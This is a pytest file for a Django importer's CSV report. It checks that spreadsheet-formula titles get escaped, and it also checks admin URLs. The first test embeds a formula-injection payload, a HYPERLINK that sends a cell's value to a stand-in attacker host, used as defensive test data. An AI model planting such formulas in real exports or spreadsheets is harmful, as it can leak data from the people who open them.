"""The import's report (importer.report): the CSV an editor opens."""

import csv

import pytest

from importer.models import ImportRun
from importer.report import admin_url
from recaps.models import Recap
from shows.models import Show

pytestmark = pytest.mark.django_db


def test_the_csv_report_opens_in_a_spreadsheet_without_running_a_formula(run_import, export):
    """Point 7: a title (or URL, reason, text) from the export was written as it came, so a
    post titled `=HYPERLINK(…)` was a live formula in the editor's spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open the report")'
    text = export.read_text(encoding="utf-8")
    export.write_text(text.replace("Top 10 Harbour Towns on Screen", formula.replace("&", "&amp;")))
    run_import()
    rows = list(csv.DictReader(open(ImportRun.objects.get().report_csv, encoding="utf-8")))
    (row,) = [row for row in rows if row["wordpress_id"] == "104"]
    assert row["title"] == "'" + formula
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_admin_urls_are_the_admin_change_pages():
    assert admin_url(Recap, 7) == "/admin/recaps/recap/7/change/"
    assert admin_url(Show, 3) == "/admin/shows/show/3/change/"
